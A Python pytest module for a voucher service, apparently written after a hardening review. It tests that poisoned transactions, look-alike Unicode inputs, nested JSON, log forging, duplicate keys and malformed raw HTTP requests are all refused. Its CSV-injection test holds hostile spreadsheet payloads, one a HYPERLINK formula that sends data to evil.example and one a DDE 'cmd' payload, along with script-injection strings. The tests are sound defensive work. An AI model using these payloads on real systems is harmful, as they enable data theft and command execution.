"""Attacks seen in the hardening review (issue 11), each refused with its documented error and
never at another client's expense: poison in a combined transaction, look-alike phones and ids,
spreadsheet formulas in CSVs, input that used to crash a handler, lockouts by strangers, and
the small leaks (log forging, framing, version banners)."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import logging
import time
import uuid
from pathlib import Path
from typing import Any

import jwt
import pytest

from service import keys
from service.app import create_app
from service.domain.codes import qr_string
from service.domain.context import Context
from service.domain.redemptions import Checkout
from service.errors import DomainError, ErrorCode
from service.middlewares import AccessLogger
from tests.conftest import TEST_SECRET, Api, assert_error
from tests.test_tokens import claims

ROOT = Path(__file__).resolve().parent.parent
REDEMPTIONS = "/api/v1/merchant/redemptions"
NUL, SURROGATE = "\x00", "\ud800"


async def cashier(api: Api, category: str = "shopping", **merchant: Any) -> dict[str, Any]:
    mid = (await api.create_merchant(category=category, **merchant))["merchant"]["id"]
    return {"id": mid, "headers": api.auth("merchant", f"m{mid}", mid)}


async def claimed_codes(api: Api, n: int, **batch: Any) -> list[str]:
    created = await api.create_batch(quantity=n, **batch)
    codes = []
    for i in range(n):
        _, body = await api.call(
            "POST",
            f"/api/v1/batches/{created['id']}/claims",
            headers=api.auth("resident", f"holder-{i}-{uuid.uuid4().hex[:6]}"),
            expect=201,
        )
        codes.append(body["code"])
    return codes


def checkout_body(code: str, ref: str = "POS-1", order: int = 12000) -> dict[str, Any]:
    return {"code": code, "order_amount_fen": order, "order_ref": ref}


async def post_redemption(api: Api, who: dict[str, Any], body: Any) -> tuple[int, Any]:
    headers = {**who["headers"], "Idempotency-Key": uuid.uuid4().hex}
    if isinstance(body, str):  # raw JSON text, to carry escapes json= would not write
        headers["Content-Type"] = "application/json"
        return await api.call("POST", REDEMPTIONS, data=body.encode(), headers=headers)
    return await api.call("POST", REDEMPTIONS, json=body, headers=headers)


async def redeemed_checkout(api: Api) -> tuple[dict[str, Any], str, dict[str, Any]]:
    """A merchant, and a voucher it has redeemed (its code and the redemption)."""
    shop = await cashier(api)
    (code,) = await claimed_codes(api, 1)
    _, redemption = await api.call(
        "POST",
        REDEMPTIONS,
        json=checkout_body(code),
        headers={**shop["headers"], "Idempotency-Key": "k1"},
        expect=201,
    )
    return shop, code, redemption


# --- 1. poison in a shared transaction ----------------------------------------------------


@pytest.mark.parametrize("poison", [NUL, SURROGATE], ids=["nul", "lone-surrogate"])
async def test_a_poisoned_checkout_fails_alone_among_concurrent_ones(api: Api, poison: str) -> None:
    """Five checkouts at once, one with unstorable text in order_ref: it alone is refused
    (400), the other four, of another merchant, are redeemed."""
    codes = await claimed_codes(api, 5)
    bad, good = await cashier(api), await cashier(api)
    # json.dumps writes the lone surrogate as the escape \ud800, as a hostile client would.
    poisoned = json.dumps(checkout_body(codes[0], ref=f"POS{poison}1"))
    answers = await asyncio.gather(
        post_redemption(api, bad, poisoned),
        *(
            post_redemption(api, good, checkout_body(c, ref=f"POS-{i}"))
            for i, c in enumerate(codes[1:])
        ),
    )
    assert_error(*answers[0], 400, "invalid_request")
    assert [s for s, _ in answers[1:]] == [201] * 4, answers
    assert {b["code"] for _, b in answers[1:]} == set(codes[1:])


async def test_a_token_whose_sub_holds_nul_is_refused_and_the_crowd_still_claims(
    api: Api,
) -> None:
    batch = await api.create_batch(quantity=100)
    path = f"/api/v1/batches/{batch['id']}/claims"
    now = int(time.time())
    bad_tokens = [
        jwt.encode(
            {
                "iss": "huaiyin-festival",
                "aud": "festival-api",
                "sub": f"evil{ch}{i}",
                "role": "resident",
                "iat": now,
                "exp": now + 600,
            },
            TEST_SECRET,
            algorithm="HS256",
        )
        for i, ch in enumerate([NUL, SURROGATE, "\n", "\x1b"])
    ]
    bad = [api.call("POST", path, headers={"Authorization": f"Bearer {t}"}) for t in bad_tokens]
    good = [api.call("POST", path, headers=api.auth("resident", f"r{i}")) for i in range(60)]
    answers = await asyncio.gather(*bad, *good)
    for answer in answers[: len(bad)]:
        assert_error(*answer, 401, "unauthorized")
    assert [s for s, _ in answers[len(bad) :]] == [201] * 60


async def test_claim_combiner_settles_a_failing_claim_alone(api: Api) -> None:
    """Past validation (a token the service would refuse, handed straight to the app's own
    combiner): 300 concurrent claims share one flush, three of them unstorable. The three
    fail, each alone; the 297 others get their vouchers, exactly one row each."""
    batch = await api.create_batch(quantity=1000)
    combiner = api.client.app[keys.CLAIMS]
    subs = [f"c{i}" for i in range(300)]
    poisoned = {17: f"x{NUL}", 150: f"y{NUL}", 299: f"z{NUL}"}
    for i, sub in poisoned.items():
        subs[i] = sub
    outcomes = await asyncio.gather(
        *(combiner.claim(batch["id"], sub) for sub in subs), return_exceptions=True
    )
    failed = [i for i, o in enumerate(outcomes) if isinstance(o, BaseException)]
    assert failed == sorted(poisoned)
    won = [o for o in outcomes if not isinstance(o, BaseException)]
    assert len({o.code for o in won}) == 297
    db = api.client.app[keys.DB]
    async with db.connection() as conn:
        rows = await conn.raw.fetchval(
            "SELECT count(*) FROM vouchers WHERE batch_id = $1", batch["id"]
        )
        claimed = await conn.raw.fetchval("SELECT claimed FROM batches WHERE id = $1", batch["id"])
    assert rows == claimed == 297


async def test_redemption_combiner_settles_a_failing_checkout_alone(api: Api) -> None:
    """200 checkouts of two merchants in one flush, three with an unstorable order_ref handed
    straight to the app's combiner: those three fail; the others are redeemed, each once,
    with their answers stored."""
    codes = await claimed_codes(api, 200)
    one, two = await cashier(api), await cashier(api)
    poisoned = {0, 99, 199}
    checkouts = [
        Checkout(
            merchant_id=(one if i % 2 else two)["id"],
            key=f"k-{i}",
            code=code,
            order_amount_fen=12000,
            order_ref=f"POS{NUL}{i}" if i in poisoned else f"POS-{i}",
        )
        for i, code in enumerate(codes)
    ]
    combiner = api.client.app[keys.REDEMPTIONS]
    outcomes = await asyncio.gather(
        *(combiner.redeem(c) for c in checkouts), return_exceptions=True
    )
    assert {i for i, o in enumerate(outcomes) if isinstance(o, BaseException)} == poisoned
    answers = [o for o in outcomes if not isinstance(o, BaseException)]
    assert {status for status, _ in answers} == {201}
    db = api.client.app[keys.DB]
    async with db.connection() as conn:
        completed = await conn.raw.fetchval(
            "SELECT count(*) FROM redemptions WHERE status = 'completed'"
        )
        stored = await conn.raw.fetchval("SELECT count(*) FROM idempotency_keys")
    assert completed == stored == 197


async def test_an_unavailable_database_fails_the_flush_at_once_without_halving(
    api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    """An outage is every request's own answer: no flush is split to retry a dead server."""
    from service.combiner import Combiner

    calls: list[int] = []

    async def flush(_: None, requests: list[int]) -> list[int | DomainError]:
        calls.append(len(requests))
        raise DomainError(ErrorCode.UNAVAILABLE, "down", retry_after=2)

    combiner: Combiner[None, int, int] = Combiner("t", flush, max_size=100)
    outcomes = await asyncio.gather(
        *(combiner.submit(None, i) for i in range(40)), return_exceptions=True
    )
    assert calls == [40]
    assert all(isinstance(o, DomainError) and o.code == "unavailable" for o in outcomes)


# --- 2. one phone, one resident: ASCII only, full match ---------------------------------

LOOKALIKE_PHONES = [
    "13900001111\n",
    " 13900001111",
    "１３９００００１１１１",  # full-width
    "١٣٩٠٠٠٠١١١١",  # Arabic-Indic
    "1390000111１",
    "13900001111\x00",
]


@pytest.mark.parametrize("phone", LOOKALIKE_PHONES)
async def test_phones_are_eleven_ascii_digits_and_nothing_else(api: Api, phone: str) -> None:
    status, body = await api.call("POST", "/api/v1/auth/otp", json={"phone": phone})
    assert_error(status, body, 400, "invalid_request")
    status, body = await api.call(
        "POST", "/api/v1/auth/resident", json={"phone": phone, "code": "123456"}
    )
    assert_error(status, body, 400, "invalid_request")
    assert api.sms.codes == {}


async def test_one_handset_is_one_resident(api: Api) -> None:
    await api.call("POST", "/api/v1/auth/otp", json={"phone": "13900001111"}, expect=202)
    code = api.sms.codes["13900001111"]
    for phone in ("13900001111\n", "١٣٩٠٠٠٠١١١١"):
        status, _ = await api.call(
            "POST", "/api/v1/auth/resident", json={"phone": phone, "code": code}
        )
        assert status == 400
    await api.call(
        "POST", "/api/v1/auth/resident", json={"phone": "13900001111", "code": code}, expect=200
    )
    db = api.client.app[keys.DB]
    async with db.connection() as conn:
        assert await conn.raw.fetchval("SELECT count(*) FROM residents") == 1


@pytest.mark.parametrize("code", ["１２３４５６", "١٢٣٤٥٦", "123456\n", "12345"])
async def test_login_codes_are_six_ascii_digits(api: Api, code: str) -> None:
    status, body = await api.call(
        "POST", "/api/v1/auth/resident", json={"phone": "13900001111", "code": code}
    )
    assert_error(status, body, 400, "invalid_request")


@pytest.mark.parametrize("raw", ["²", "١٢", "１２", "1²"])
async def test_ids_in_paths_are_ascii_digits(api: Api, raw: str) -> None:
    for _ in range(12):  # batch 12 exists: "١٢" must not reach it
        await api.create_batch()
    status, body = await api.call("GET", f"/api/v1/batches/{raw}")
    assert_error(status, body, 404, "not_found")
    status, body = await api.call("GET", f"/api/v1/admin/merchants/{raw}", headers=api.bureau)
    assert_error(status, body, 404, "not_found")


@pytest.mark.parametrize("limit", ["١٢", "１２", "12\n", "1e2", " 12"])
async def test_query_integers_are_ascii_digits(api: Api, limit: str) -> None:
    status, body = await api.call(
        "GET", "/api/v1/me/vouchers", params={"limit": limit}, headers=api.auth("resident", "r")
    )
    assert_error(status, body, 400, "invalid_request")


@pytest.mark.parametrize("phone", ["13812345678\n", "０５３１-88886666", "0531-8888666６"])
async def test_contact_phones_are_ascii_and_full_match(api: Api, phone: str) -> None:
    from tests.factories import merchant_body

    status, body = await api.call(
        "POST",
        "/api/v1/admin/merchants",
        json=merchant_body(contact_phone=phone),
        headers=api.bureau,
    )
    assert_error(status, body, 400, "invalid_request")
    assert "contact_phone" in body["error"]["details"]


# --- 3. CSV injection -----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


async def test_spreadsheet_formulas_come_out_inert_in_every_csv(api: Api) -> None:
    from datetime import date

    from jobs.registry import BY_NAME

    shop = await cashier(api, name=FORMULA)
    other = await cashier(api, name="@SUM(1+1)*cmd|' /C calc'!A0")
    for who in (shop, other):
        (code,) = await claimed_codes(api, 1)
        await api.call(
            "POST",
            REDEMPTIONS,
            json=checkout_body(code),
            headers={**who["headers"], "Idempotency-Key": uuid.uuid4().hex},
            expect=201,
        )
    day = date(2020, 5, 6)
    api.clock.advance(days=1)  # the day is over: it can be settled
    for job in ("daily_rollup", "settlement"):
        result = await api.client.app[keys.JOBS].run_day(BY_NAME[job], day, force=True)
        assert result.outcome == "succeeded", result
    downloads = {
        "merchants": "/api/v1/admin/merchants?format=csv",
        "settlement": "/api/v1/admin/settlements?date=2020-05-06&format=csv",
        "merchant day": "/api/v1/stats/merchants?date=2020-05-06&format=csv",
    }
    for what, path in downloads.items():
        status, text = await api.call("GET", path, headers=api.bureau)
        assert status == 200, (what, text)
        import csv
        import io

        rows = list(csv.DictReader(io.StringIO(text)))
        names = {r.get("name") or r.get("merchant_name") for r in rows}
        assert "'" + FORMULA in names, (what, text)
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names, (what, text)
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "@")), (what, row)
    # Negative numbers stay numbers: a -2000 adjustment is not text to neutralise.
    from service.csvtext import cell

    assert cell(-2000) == -2000 and cell("-2000") == "-2000" and cell("-1+1") == "'-1+1"
    assert cell("\tx") == "'\tx" and cell("\rx") == "'\rx" and cell("+86") == "+86"


# --- 4. input that used to be a 500 ---------------------------------------------------


@pytest.mark.parametrize("depth", [33, 1100, 100_000])
async def test_deeply_nested_json_is_a_400_before_any_token(api: Api, depth: int) -> None:
    body = "[" * depth + "]" * depth
    for path in ("/api/v1/auth/otp", "/api/v1/auth/bureau", "/api/v1/admin/batches"):
        status, answer = await api.call(
            "POST", path, data=body, headers={"Content-Type": "application/json"}
        )
        if path == "/api/v1/admin/batches":  # the token is checked before the body is read
            assert_error(status, answer, 401, "unauthorized")
        else:
            assert_error(status, answer, 400, "invalid_request")


async def test_moderately_nested_json_is_still_read(api: Api) -> None:
    status, answer = await api.call("POST", "/api/v1/auth/otp", json={"phone": [[[[1]]]]})
    assert_error(status, answer, 400, "invalid_request")
    assert "phone" in answer["error"]["details"]


BAD_TEXT = [NUL, SURROGATE, "\x1b[31m", "\x7f", "\u0085"]


@pytest.mark.parametrize("bad", BAD_TEXT, ids=["nul", "surrogate", "escape", "del", "c1"])
async def test_control_characters_and_lone_surrogates_are_400_everywhere(
    api: Api, bad: str
) -> None:
    from tests.factories import batch_body, merchant_body

    shop, code, redemption = await redeemed_checkout(api)
    attempts = [
        ("POST", "/api/v1/auth/bureau", {"username": f"ops{bad}", "password": "x" * 12}, {}),
        ("POST", "/api/v1/auth/bureau", {"username": "ops", "password": f"pass{bad}word"}, {}),
        ("POST", "/api/v1/auth/merchant", {"merchant_id": shop["id"], "api_key": f"mk_{bad}"}, {}),
        ("POST", "/api/v1/admin/batches", batch_body(api.clock, title=f"券{bad}"), api.bureau),
        ("POST", "/api/v1/admin/merchants", merchant_body(name=f"店{bad}"), api.bureau),
        ("PATCH", f"/api/v1/admin/merchants/{shop['id']}", {"address": f"路{bad}"}, api.bureau),
        (
            "POST",
            f"{REDEMPTIONS}/{redemption['id']}/reversal",
            {"reason": f"退{bad}货"},
            shop["headers"],
        ),
        (
            "POST",
            REDEMPTIONS,
            checkout_body(code, ref=f"P{bad}"),
            {**shop["headers"], "Idempotency-Key": "k2"},
        ),
    ]
    for method, path, body, headers in attempts:
        raw = json.dumps(body).encode()  # ensure_ascii: the surrogate travels as \ud800
        status, answer = await api.call(
            method, path, data=raw, headers={**headers, "Content-Type": "application/json"}
        )
        assert_error(status, answer, 400, "invalid_request")
    # An unknown field whose name is hostile is refused with a name that can be shown.
    raw = json.dumps({"phone": "13900001111", f"x{bad}": 1}).encode()
    status, answer = await api.call(
        "POST", "/api/v1/auth/otp", data=raw, headers={"Content-Type": "application/json"}
    )
    assert_error(status, answer, 400, "invalid_request")


async def test_free_text_keeps_tab_and_newline_other_text_does_not(api: Api) -> None:
    shop, _, redemption = await redeemed_checkout(api)
    _, reversed_ = await api.call(
        "POST",
        f"{REDEMPTIONS}/{redemption['id']}/reversal",
        json={"reason": "顾客退货\n\t尺码不合"},
        headers=shop["headers"],
        expect=200,
    )
    assert reversed_["reversal_reason"] == "顾客退货\n\t尺码不合"
    from tests.factories import batch_body

    status, body = await api.call(
        "POST",
        "/api/v1/admin/batches",
        json=batch_body(api.clock, title="券\n满100减20"),
        headers=api.bureau,
    )
    assert_error(status, body, 400, "invalid_request")
    assert "title" in body["error"]["details"]


async def test_nul_in_query_strings_is_a_400(api: Api) -> None:
    shop = await cashier(api)
    status, body = await api.call(
        "GET", REDEMPTIONS, params={"idempotency_key": f"k{NUL}"}, headers=shop["headers"]
    )
    assert_error(status, body, 400, "invalid_request")
    status, body = await api.call("GET", "/api/v1/batches", params={"category": f"dining{NUL}"})
    assert_error(status, body, 400, "invalid_request")


@pytest.mark.parametrize("signature", ["é" * 16, "签名签名", "\ud800abc", "AAAA\x00"])
async def test_a_qr_with_a_non_ascii_signature_is_not_found(api: Api, signature: str) -> None:
    shop = await cashier(api)
    (code,) = await claimed_codes(api, 1)
    qr = f"HYV1.{code}.{signature}"
    status, body = await api.call("GET", f"/api/v1/merchant/vouchers/{qr}", headers=shop["headers"])
    assert status in (400, 404), body
    body_text = json.dumps({"code": qr, "order_amount_fen": 12000, "order_ref": "P"})
    status, body = await post_redemption(api, shop, body_text)
    assert status in (400, 404), body
    # The genuine QR still works.
    real = qr_string(api.client.app[keys.SERVER_KEYS]["qr_signing"], code)
    await api.call("GET", f"/api/v1/merchant/vouchers/{real}", headers=shop["headers"], expect=200)


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1999-12-31", "2100-01-01"])
async def test_dates_outside_2000_to_2099_are_400(api: Api, day: str) -> None:
    shop = await cashier(api)
    for path, headers in (
        (f"/api/v1/stats/daily?to={day}", api.bureau),
        (f"/api/v1/stats/daily?from={day}&to=2020-05-01", api.bureau),
        (f"/api/v1/stats/merchants?date={day}", api.bureau),
        (f"/api/v1/admin/settlements?date={day}", api.bureau),
        (f"/api/v1/merchant/settlements?to={day}", shop["headers"]),
        (f"/api/v1/merchant/settlements?from={day}&to=2020-05-01", shop["headers"]),
        (f"{REDEMPTIONS}?date={day}", shop["headers"]),
    ):
        status, body = await api.call("GET", path, headers=headers)
        assert_error(status, body, 400, "invalid_request")
    status, body = await api.call(
        "POST", "/api/v1/admin/jobs/daily_rollup/runs", json={"date": day}, headers=api.bureau
    )
    assert_error(status, body, 400, "invalid_request")
    status, body = await api.call(
        "PUT",
        "/api/v1/admin/baselines",
        data=f"date,category,sales_fen\n{day},dining,100\n",
        headers={**api.bureau, "Content-Type": "text/csv"},
    )
    assert_error(status, body, 400, "invalid_request")
    assert "2" in body["error"]["details"]["lines"]


@pytest.mark.parametrize(
    "when", ["0001-01-01T00:00:00+08:00", "9999-12-31T23:59:59-08:00", "2100-01-01T00:00:00Z"]
)
async def test_batch_times_outside_2000_to_2099_are_400(api: Api, when: str) -> None:
    from tests.factories import batch_body

    for field in ("claim_starts_at", "claim_ends_at", "valid_until"):
        status, body = await api.call(
            "POST",
            "/api/v1/admin/batches",
            json=batch_body(api.clock, **{field: when}),
            headers=api.bureau,
        )
        assert_error(status, body, 400, "invalid_request")
    batch = await api.create_batch()
    status, body = await api.call(
        "PATCH",
        f"/api/v1/admin/batches/{batch['id']}",
        json={"claim_ends_at": when},
        headers=api.bureau,
    )
    assert_error(status, body, 400, "invalid_request")


def signed(**overrides: Any) -> dict[str, str]:
    """A token signed with the service's secret (a merchant's unless overridden)."""
    payload = claims(**{"sub": "m", "role": "merchant", "jti": None, **overrides})
    return {"Authorization": "Bearer " + jwt.encode(payload, TEST_SECRET, algorithm="HS256")}


@pytest.mark.parametrize("mid", [2**63, 2**64, -1, 0, 10**30, 1.5, "12", True])
async def test_out_of_range_mid_is_401(api: Api, mid: Any) -> None:
    status, body = await api.call("GET", REDEMPTIONS, headers=signed(mid=mid))
    assert_error(status, body, 401, "unauthorized")


# --- 5. no stranger can lock a merchant out ------------------------------------------


@pytest.fixture
async def forwarded_api(api: Api, aiohttp_client: Any) -> Api:
    """The same database behind a reverse proxy: the client address is X-Forwarded-For."""
    settings = dataclasses.replace(api.settings, trust_forwarded_for=True)
    client = await aiohttp_client(create_app(settings=settings, clock=api.clock, sms=api.sms))
    return Api(client, settings, api.clock, api.sms)


async def test_wrong_api_keys_from_a_stranger_do_not_lock_the_merchant_out(
    api: Api, forwarded_api: Api
) -> None:
    created = await api.create_merchant()
    mid, key = created["merchant"]["id"], created["api_key"]
    stranger = {"X-Forwarded-For": "203.0.113.9"}
    shop = {"X-Forwarded-For": "198.51.100.20"}
    login = "/api/v1/auth/merchant"
    for _ in range(10):
        status, _ = await forwarded_api.call(
            "POST", login, json={"merchant_id": mid, "api_key": "mk_wrong"}, headers=stranger
        )
        assert status == 401
    # The stranger's address is now refused for this merchant, even with the right key...
    status, body = await forwarded_api.call(
        "POST", login, json={"merchant_id": mid, "api_key": key}, headers=stranger
    )
    assert_error(status, body, 429, "rate_limited")
    # ...and the merchant's own checkout signs in as before.
    status, body = await forwarded_api.call(
        "POST", login, json={"merchant_id": mid, "api_key": key}, headers=shop
    )
    assert status == 200, body


async def test_right_logins_do_not_count_toward_the_wrong_attempt_limit(
    forwarded_api: Api,
) -> None:
    created = await forwarded_api.create_merchant()
    mid, key = created["merchant"]["id"], created["api_key"]
    for _ in range(15):  # a shop with many tills signing in from one address
        await forwarded_api.call(
            "POST",
            "/api/v1/auth/merchant",
            json={"merchant_id": mid, "api_key": key},
            headers={"X-Forwarded-For": "198.51.100.20"},
            expect=200,
        )


async def test_a_stranger_cannot_lock_the_bureau_out(forwarded_api: Api) -> None:
    from service.domain.audit import Actor
    from service.domain.logins import create_bureau_user

    db = forwarded_api.client.app[keys.DB]
    now = forwarded_api.clock.now()
    await create_bureau_user(
        Context(db=db, actor=Actor("test"), now=now, tz=forwarded_api.settings.tz),
        "analyst",
        password="correct horse battery",
    )
    login = "/api/v1/auth/bureau"
    for _ in range(11):
        await forwarded_api.call(
            "POST",
            login,
            json={"username": "analyst", "password": "guess"},
            headers={"X-Forwarded-For": "203.0.113.9"},
        )
    status, body = await forwarded_api.call(
        "POST",
        login,
        json={"username": "analyst", "password": "correct horse battery"},
        headers={"X-Forwarded-For": "198.51.100.20"},
    )
    assert status == 200, body


# --- 6. the small ones ----------------------------------------------------------------


async def test_a_newline_in_the_path_cannot_forge_a_log_line(
    api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    from aiohttp.test_utils import TestClient, TestServer

    server = TestServer(create_app(settings=api.settings, clock=api.clock, sms=api.sms))
    # As `festival serve` runs it: the service's own access logger.
    await server.start_server(access_log_class=AccessLogger, access_log=logging.getLogger("t.acc"))
    client = TestClient(server)
    caplog.set_level(logging.INFO, logger="t.acc")
    resp = await client.get("/api/v1/x%0A2020-05-06%20INFO%20GET%20/admin%20200")
    await resp.read()
    lines: list[str] = []
    for _ in range(100):  # the access log is written once the answer has gone out
        lines = [r.getMessage() for r in caplog.records if r.name == "t.acc"]
        if lines:
            break
        await asyncio.sleep(0.01)
    await client.close()
    assert len(lines) == 1 and "\n" not in lines[0], lines
    assert "%0A" in lines[0], lines


@pytest.mark.parametrize("path", ["/static/index.html", "/static/bureau.html", "/", "/cashier"])
async def test_pages_carry_their_csp_and_nosniff_wherever_they_are_served(
    api: Api, path: str
) -> None:
    resp = await api.client.get(path)
    assert resp.status == 200
    assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"]
    assert "default-src 'self'" in resp.headers["Content-Security-Policy"]
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["X-Frame-Options"] == "DENY"


async def test_favicon_is_served_and_no_server_version_is_named(api: Api) -> None:
    resp = await api.client.get("/favicon.ico")
    assert resp.status == 200
    assert resp.headers["Content-Type"] == "image/x-icon"
    assert (await resp.read())[:4] == b"\x00\x00\x01\x00"
    for path in ("/favicon.ico", "/api/v1/categories", "/api/v1/nowhere", "/"):
        resp = await api.client.get(path)
        assert resp.headers["Server"] == "festival", path
        assert resp.headers["X-Content-Type-Options"] == "nosniff", path


async def test_docs_page_runs_under_its_csp(api: Api) -> None:
    resp = await api.client.get("/api/docs")
    html = await resp.text()
    assert "<script>" not in html  # no inline script: script-src 'self' would block it
    resp = await api.client.get("/api/docs/init.js")
    assert resp.status == 200 and "SwaggerUIBundle" in await resp.text()


@pytest.mark.parametrize(
    ("claims", "status"),
    [
        ({"exp": "9999999999"}, 401),
        ({"iat": "1"}, 401),
        ({"nbf": "1"}, 401),
        ({"exp": True}, 401),
        ({"aud": ["other", "festival-api"]}, 200),
        ({"aud": ["festival-api"]}, 200),
        ({"aud": ["other"]}, 401),
        ({"aud": []}, 401),
        ({"aud": [["festival-api"]]}, 401),
    ],
)
async def test_numeric_dates_must_be_numbers_and_aud_may_be_an_array(
    api: Api, claims: dict[str, Any], status: int
) -> None:
    got, body = await api.call(
        "GET", "/api/v1/auth/me", headers=signed(role="bureau", sub="ops", **claims)
    )
    assert got == status, body


async def test_a_job_run_needs_no_body(api: Api) -> None:
    status, body = await api.call(
        "POST", "/api/v1/admin/jobs/expiry_sweep/runs", headers=api.bureau
    )
    assert status == 202, body
    assert body["date"] is None


async def test_openapi_documents_json_stats_and_the_idempotency_key(api: Api) -> None:
    _, spec = await api.call("GET", "/api/openapi.json", expect=200)
    merchants = spec["paths"]["/api/v1/stats/merchants"]["get"]["responses"]["200"]["content"]
    assert set(merchants) == {"application/json", "text/csv"}
    summary = spec["paths"]["/api/v1/stats/summary"]["get"]["responses"]["200"]["content"]
    assert "application/json" in summary
    (header,) = [
        p
        for p in spec["paths"][REDEMPTIONS]["post"]["parameters"]
        if p.get("name") == "Idempotency-Key"
    ]
    assert header["schema"]["minLength"] == 1 and header["schema"]["maxLength"] == 64
    assert header["schema"]["pattern"].startswith("^") and header["schema"]["pattern"].endswith("$")
    phone = spec["components"]["schemas"]["OtpRequest"]["properties"]["phone"]["pattern"]
    assert phone == "^(?:1[3-9][0-9]{9})$"
    runs = spec["paths"]["/api/v1/admin/jobs/{name}/runs"]["post"]["requestBody"]
    assert runs["required"] is False


def test_metrics_are_not_published_by_the_compose_nginx() -> None:
    conf = (ROOT / "deploy" / "nginx-compose.conf").read_text()
    public = conf.split("server {")[1]
    assert "listen 80;" in public
    assert "location = /metrics {\n        return 404;" in public
    assert "server_tokens off;" in public
    compose = (ROOT / "deploy" / "compose.yaml").read_text()
    assert '"9113' not in compose  # the metrics port is never published
    assert "combined" not in conf  # the combined log format writes query strings


# --- 5. the outside tester's findings ---------------------------------------------------


async def test_a_key_given_twice_is_refused_whatever_the_endpoint(api: Api) -> None:
    """json.loads keeps the last of a duplicated key: `confirm` … `dismiss` once dismissed a
    flag. Now the body is refused, and nothing happens."""
    body = (
        '{"name": "济南甲商户", "category": "shopping", "category": "dining",'
        ' "credit_code": "91370104MA3C1TQ22X", "district": "槐荫区", "address": "经十路",'
        ' "contact_phone": "13812345678"}'
    )
    headers = {**api.bureau, "Content-Type": "application/json"}
    status, error = await api.call(
        "POST", "/api/v1/admin/merchants", data=body.encode(), headers=headers
    )
    assert_error(status, error, 400, "invalid_request")
    assert "category" in error["error"]["details"]["_body"][0]
    _, listed = await api.call("GET", "/api/v1/admin/merchants", headers=api.bureau, expect=200)
    assert listed == []
    nested = '{"decision": "confirm", "note": "x", "x": {"a": 1, "a": 2}}'
    status, error = await api.call(
        "POST", "/api/v1/admin/risk/flags/1/review", data=nested.encode(), headers=headers
    )
    assert_error(status, error, 400, "invalid_request")


@pytest.mark.parametrize("hidden", ["\u202e", "\u202a", "\u2066", "\u2069", "\u200b", "\u200f"])
async def test_invisible_format_characters_are_refused_in_text(api: Api, hidden: str) -> None:
    from tests.factories import merchant_body

    status, error = await api.call(
        "POST",
        "/api/v1/admin/merchants",
        json=merchant_body(name=f"济南{hidden}商户"),
        headers=api.bureau,
    )
    assert_error(status, error, 400, "invalid_request")
    assert "name" in error["error"]["details"], error
    status, error = await api.call(  # free text (a note) too
        "POST",
        "/api/v1/admin/risk/flags/1/review",
        json={"decision": "confirm", "note": f"核实{hidden}"},
        headers=api.bureau,
    )
    assert_error(status, error, 400, "invalid_request")
    assert "note" in error["error"]["details"], error


async def test_answers_with_tokens_keys_or_personal_data_are_never_cached(api: Api) -> None:
    from tests.factories import merchant_body

    created = await api.create_merchant()
    mid = created["merchant"]["id"]
    login = await api.client.post(
        "/api/v1/auth/merchant", json={"merchant_id": mid, "api_key": created["api_key"]}
    )
    assert login.status == 200
    made = await api.client.post(
        "/api/v1/admin/merchants",
        json=merchant_body(),
        headers=api.bureau,
    )
    wallet = await api.client.get("/api/v1/me/vouchers", headers=api.auth("resident", "alice"))
    merchants = await api.client.get("/api/v1/admin/merchants", headers=api.bureau)
    refused = await api.client.get("/api/v1/me/vouchers")
    for answer in (login, made, wallet, merchants, refused):
        assert answer.headers.get("Cache-Control") == "no-store", (answer.url, answer.headers)


def test_the_servers_own_refusals_are_the_json_error_without_the_request(
    db_url: str, tmp_path: Path
) -> None:
    """The tester's 3rd: aiohttp's parser answered a 10 KB header or a header name `<script>`
    itself, as text echoing the bytes, with `Server: Python/3.11 aiohttp/…`. Over a raw socket
    to a real `festival serve`."""
    import socket
    from urllib.parse import urlsplit

    from tests.processes import festival_env, serving

    env = festival_env(db_url, tmp_path)
    with serving(env, tmp_path / "serve.log", "--no-scheduler") as server:
        port = urlsplit(server.base).port
        for raw in (
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"A" * 10_000 + b"\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\n<script>alert(1)</script>: 1\r\n\r\n",
            b"G<script>ET / HTTP/1.1\r\n\r\n",
            b"GET /api/v1/categories HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        ):
            with socket.create_connection(("127.0.0.1", port or 0), timeout=10) as conn:
                conn.sendall(raw)
                answer = b""
                while chunk := conn.recv(65536):
                    answer += chunk
            head, _, body = answer.partition(b"\r\n\r\n")
            headers = head.decode("latin-1").lower()
            assert head.startswith(b"HTTP/1.") and b" 400 " in head.split(b"\r\n")[0], answer
            assert "server: festival" in headers and "aiohttp" not in headers, headers
            assert "content-type: application/json" in headers, headers
            error = json.loads(body)
            assert error["error"]["code"] == "invalid_request", error
            assert b"script" not in body and b"AAAA" not in body, body
        assert "Traceback" not in server.log()
